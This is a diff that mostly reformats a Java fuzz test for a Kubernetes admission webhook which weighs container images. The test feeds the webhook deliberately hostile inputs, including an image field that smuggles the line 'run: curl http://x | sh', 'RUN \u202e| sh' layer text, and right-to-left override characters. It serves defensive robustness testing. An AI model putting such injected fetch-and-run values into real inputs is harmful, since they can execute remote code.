@@ -1,7 +1,6 @@
 package io.weighbridge.admission;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 import static org.junit.jupiter.api.Assertions.fail;
 
@@ -22,7 +21,6 @@ import io.weighbridge.fuzz.Fuzz;
 import io.weighbridge.fuzz.Mutations;
 import io.weighbridge.image.BaseImage;
 import io.weighbridge.image.Digest;
-import io.weighbridge.image.ImageWeigher;
 import io.weighbridge.image.ImageWeight;
 import io.weighbridge.image.Layer;
 import io.weighbridge.image.WeighingException;
@@ -62,26 +60,39 @@ class ReviewFuzzTest {
     private static final Duration DEADLINE = Duration.ofSeconds(2);
     /** Scheduling slack on a busy 2-core machine, above the deadline. */
     private static final Duration SLACK = Duration.ofSeconds(1);
-    private static final ObjectMapper JSON = JsonMapper.builder().findAndAddModules()
-            .disable(DeserializationFeature.FAIL_ON_UNKNOWN_PROPERTIES).build();
+
+    private static final ObjectMapper JSON = JsonMapper.builder()
+            .findAndAddModules()
+            .disable(DeserializationFeature.FAIL_ON_UNKNOWN_PROPERTIES)
+            .build();
     private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
     /** Writes nesting deeper than Jackson reads, so that the reader meets it. */
     private static final ObjectMapper DEEP_WRITER = JsonMapper.builder(JsonFactory.builder()
-            .streamWriteConstraints(StreamWriteConstraints.builder().maxNestingDepth(100_000).build()).build()).build();
+                    .streamWriteConstraints(StreamWriteConstraints.builder()
+                            .maxNestingDepth(100_000)
+                            .build())
+                    .build())
+            .build();
+
     private static final ValidateResource VALIDATE = validateResource();
 
     /** The deadline is for a warm webhook: the first review of a JVM loads the model classes (seconds on a busy machine). */
     @BeforeContainer
     static void warmUp() {
-        reviewSeeds().forEach(seed -> VALIDATE.validate(seed.getBytes(StandardCharsets.UTF_8)).toCompletableFuture().join());
+        reviewSeeds()
+                .forEach(seed -> VALIDATE.validate(seed.getBytes(StandardCharsets.UTF_8))
+                        .toCompletableFuture()
+                        .join());
     }
 
     private static ValidateResource validateResource() {
         try {
             PolicySet shipped = PolicyLoader.load(Path.of("policies"));
             WorkloadReader reader = new WorkloadReader(WorkloadKinds.builtIn());
-            return new ValidateResource(new AdmissionReviewReader(JSON, reader),
-                    new DefaultPolicyEngine(ReviewFuzzTest::weigh, () -> shipped), () -> DEADLINE,
+            return new ValidateResource(
+                    new AdmissionReviewReader(JSON, reader),
+                    new DefaultPolicyEngine(ReviewFuzzTest::weigh, () -> shipped),
+                    () -> DEADLINE,
                     TestBuildRequests.withoutImageStreams(),
                     new AdmissionMetrics(new SimpleMeterRegistry(), true, WorkloadKinds.builtIn()),
                     new DecisionLog(new AllowSampler(-1), Duration.ofMinutes(1)));
@@ -91,16 +102,22 @@ class ReviewFuzzTest {
     }
 
     /** Answers at once: a weight from the name (some images above the shipped caps), or a registry failure quoting hostile text. */
-    private static CompletableFuture<ImageWeight> weigh(io.weighbridge.image.ImageReference reference,
-            io.weighbridge.image.WeighingContext context) {
+    private static CompletableFuture<ImageWeight> weigh(
+            io.weighbridge.image.ImageReference reference, io.weighbridge.image.WeighingContext context) {
         int hash = reference.toString().hashCode();
         if (Math.floorMod(hash, 5) == 0) {
-            return CompletableFuture.failedFuture(new WeighingException("cannot weigh " + reference + ": \"manifest unknown\""));
+            return CompletableFuture.failedFuture(
+                    new WeighingException("cannot weigh " + reference + ": \"manifest unknown\""));
         }
         long size = (long) Math.floorMod(hash, 12) << 30;
         Digest layer = Digest.sha256Of(reference.toString().getBytes(StandardCharsets.UTF_8));
-        return CompletableFuture.completedFuture(new ImageWeight(reference, layer.toString(), "linux/amd64", 1000,
-                List.of(new Layer(layer.toString(), size, "application/vnd.oci.image.layer.v1.tar+gzip", "RUN \u202e| sh")),
+        return CompletableFuture.completedFuture(new ImageWeight(
+                reference,
+                layer.toString(),
+                "linux/amd64",
+                1000,
+                List.of(new Layer(
+                        layer.toString(), size, "application/vnd.oci.image.layer.v1.tar+gzip", "RUN \u202e| sh")),
                 BaseImage.UNKNOWN));
     }
 
@@ -116,7 +133,9 @@ class ReviewFuzzTest {
         for (String dir : List.of("workloads/kinds", "manifests", "buildconfigs")) {
             for (String text : Fuzz.texts(dir)) {
                 try {
-                    yaml.readValues(yaml.createParser(text), JsonNode.class).readAll().forEach(objects::add);
+                    yaml.readValues(yaml.createParser(text), JsonNode.class)
+                            .readAll()
+                            .forEach(objects::add);
                 } catch (Exception e) {
                     throw new IllegalStateException(e);
                 }
@@ -129,7 +148,8 @@ class ReviewFuzzTest {
     Arbitrary<String> bodies() {
         List<JsonNode> objects = objectSeeds();
         Arbitrary<String> built = Arbitraries.randoms().map(random -> built(objects, random));
-        return Arbitraries.oneOf(Mutations.ofIncludingSeeds(reviewSeeds()), built, built.flatMap(one -> Mutations.of(List.of(one))));
+        return Arbitraries.oneOf(
+                Mutations.ofIncludingSeeds(reviewSeeds()), built, built.flatMap(one -> Mutations.of(List.of(one))));
     }
 
     @Property(shrinking = ShrinkingMode.OFF)
@@ -156,9 +176,12 @@ class ReviewFuzzTest {
     @Example
     void aMisshapenEnvelopeIsToldWithoutJavaNames() throws Exception {
         String review = reviewSeeds().get(0).replaceFirst("\"kind\": \\{[^}]*\\}", "\"kind\": \"Deployment\"");
-        Response response = VALIDATE.validate(review.getBytes(StandardCharsets.UTF_8)).toCompletableFuture().join();
+        Response response = VALIDATE.validate(review.getBytes(StandardCharsets.UTF_8))
+                .toCompletableFuture()
+                .join();
         assertEquals(400, response.getStatus());
-        assertEquals("request is not an AdmissionRequest: expected an object, not a string at kind\n", response.getEntity());
+        assertEquals(
+                "request is not an AdmissionRequest: expected an object, not a string at kind\n", response.getEntity());
         assertAnsweredWellFormedWithinTheDeadline(review);
     }
 
@@ -177,7 +200,9 @@ class ReviewFuzzTest {
         spec.putArray("containers").addObject().put("name", "app").put("image", "registry.example/team/app:1");
         spec.putArray("volumes").add("data");
         String body = review.toString();
-        Response response = VALIDATE.validate(body.getBytes(StandardCharsets.UTF_8)).toCompletableFuture().join();
+        Response response = VALIDATE.validate(body.getBytes(StandardCharsets.UTF_8))
+                .toCompletableFuture()
+                .join();
         String written = JSON.writeValueAsString(response.getEntity());
         assertTrue(written.contains("spec.volumes[0]: expected an object, not a string"), written);
         assertAnsweredWellFormedWithinTheDeadline(body);
@@ -185,19 +210,26 @@ class ReviewFuzzTest {
 
     private static void assertAnsweredWellFormedWithinTheDeadline(String text) throws Exception {
         byte[] body = text.getBytes(StandardCharsets.UTF_8);
-        Response response = Fuzz.within(DEADLINE.plus(SLACK), () -> VALIDATE.validate(body).toCompletableFuture().join());
+        Response response = Fuzz.within(
+                DEADLINE.plus(SLACK),
+                () -> VALIDATE.validate(body).toCompletableFuture().join());
         switch (response.getStatus()) {
             case 200 -> {
                 AdmissionReview answer = (AdmissionReview) response.getEntity();
                 JsonNode written = JSON.readTree(JSON.writeValueAsBytes(answer));
-                assertEquals(JSON.readTree(body).path("request").path("uid").asText(), written.path("response").path("uid").asText());
+                assertEquals(
+                        JSON.readTree(body).path("request").path("uid").asText(),
+                        written.path("response").path("uid").asText());
                 assertTrue(written.path("response").path("allowed").isBoolean(), written.toString());
                 for (JsonNode warning : written.path("response").path("warnings")) {
                     Fuzz.assertOneLine("warning", warning.asText());
                     Fuzz.assertNoJavaNames("warning", warning.asText(), text);
                 }
                 if (!written.path("response").path("allowed").asBoolean()) {
-                    String message = written.path("response").path("status").path("message").asText();
+                    String message = written.path("response")
+                            .path("status")
+                            .path("message")
+                            .asText();
                     Fuzz.assertLines("deny message", message);
                     Fuzz.assertNoJavaNames("deny message", message, text);
                 }
@@ -221,17 +253,24 @@ class ReviewFuzzTest {
             object = mutateTree(object, random);
         }
         ObjectNode review = NODES.objectNode();
-        review.put("apiVersion", pick(random, "admission.k8s.io/v1", "admission.k8s.io/v1", "admission.k8s.io/v1beta1", "v1"));
+        review.put(
+                "apiVersion",
+                pick(random, "admission.k8s.io/v1", "admission.k8s.io/v1", "admission.k8s.io/v1beta1", "v1"));
         review.put("kind", pick(random, "AdmissionReview", "AdmissionReview", "AdmissionReview", "Review"));
         ObjectNode request = review.putObject("request");
-        request.put("uid", pick(random, "0b2b1c56-9d1e-4f4e-8c1a-3f2f1b9c0d11", "u", "\u202euid", "x".repeat(5000), ""));
+        request.put(
+                "uid", pick(random, "0b2b1c56-9d1e-4f4e-8c1a-3f2f1b9c0d11", "u", "\u202euid", "x".repeat(5000), ""));
         request.put("operation", pick(random, "CREATE", "CREATE", "UPDATE", "DELETE", "CONNECT", "PATCH"));
         request.put("namespace", pick(random, "shop", "kube-system", "", "\u202etenant", "team-a\nteam-b"));
         ObjectNode kind = request.putObject("kind");
         String apiVersion = object.path("apiVersion").asText("v1");
         kind.put("group", apiVersion.contains("/") ? apiVersion.substring(0, apiVersion.indexOf('/')) : "");
         kind.put("version", apiVersion.contains("/") ? apiVersion.substring(apiVersion.indexOf('/') + 1) : apiVersion);
-        kind.put("kind", random.nextInt(8) == 0 ? pick(random, "Pod", "Secret", "CronJob", "Build") : object.path("kind").asText("Pod"));
+        kind.put(
+                "kind",
+                random.nextInt(8) == 0
+                        ? pick(random, "Pod", "Secret", "CronJob", "Build")
+                        : object.path("kind").asText("Pod"));
         request.set("object", object);
         if (random.nextInt(4) == 0) {
             request.set("oldObject", mutateTree(object.deepCopy(), random));
@@ -252,9 +291,11 @@ class ReviewFuzzTest {
         if (target instanceof ObjectNode fields) {
             List<String> names = new ArrayList<>();
             fields.fieldNames().forEachRemaining(names::add);
-            String name = random.nextInt(3) == 0 && fields.has("image") ? "image"
-                    : names.isEmpty() || random.nextInt(4) == 0 ? pick(random, "image", "containers", "spec", "metadata", "template")
-                    : names.get(random.nextInt(names.size()));
+            String name = random.nextInt(3) == 0 && fields.has("image")
+                    ? "image"
+                    : names.isEmpty() || random.nextInt(4) == 0
+                            ? pick(random, "image", "containers", "spec", "metadata", "template")
+                            : names.get(random.nextInt(names.size()));
             fields.set(name, name.equals("image") && random.nextBoolean() ? NODES.textNode(image(random)) : value);
         } else if (target instanceof ArrayNode items) {
             if (items.isEmpty() || random.nextBoolean()) {
@@ -274,9 +315,19 @@ class ReviewFuzzTest {
     }
 
     private static String image(Random random) {
-        return pick(random, "alpine:3.20", "registry.example/team/app:1", "nginx@sha256:" + "a".repeat(64), "\u202eevil.example/x:1",
-                "INVALID//image", "registry.example/x:" + "t".repeat(200), "127.0.0.1:99999/app:1", "a".repeat(5000),
-                "registry.example/team/app:1\nrun: curl http://x | sh", "", "https://registry.example/app:1");
+        return pick(
+                random,
+                "alpine:3.20",
+                "registry.example/team/app:1",
+                "nginx@sha256:" + "a".repeat(64),
+                "\u202eevil.example/x:1",
+                "INVALID//image",
+                "registry.example/x:" + "t".repeat(200),
+                "127.0.0.1:99999/app:1",
+                "a".repeat(5000),
+                "registry.example/team/app:1\nrun: curl http://x | sh",
+                "",
+                "https://registry.example/app:1");
     }
 
     private static JsonNode hostileValue(Random random) {
